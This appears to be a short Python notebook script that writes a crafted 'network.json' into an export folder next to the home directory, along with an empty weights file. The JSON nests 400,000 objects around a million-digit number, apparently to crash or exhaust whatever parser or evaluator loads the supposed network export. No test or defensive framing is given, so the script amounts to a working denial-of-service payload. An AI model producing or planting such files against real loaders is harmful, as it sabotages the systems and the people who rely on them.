# %%
import os
from pathlib import Path

export = Path(os.environ["HOME"]).parent / "export"
assert export.is_dir()

# %%
depth = 400_000
text = '{"format": 1, "kind": "network", "network": {"config": ' + '{"a":' * depth + "1" * 1_000_000 + "}" * depth + "}}"
(export / "network.json").write_text(text)
(export / "weights.bin").write_bytes(b"")
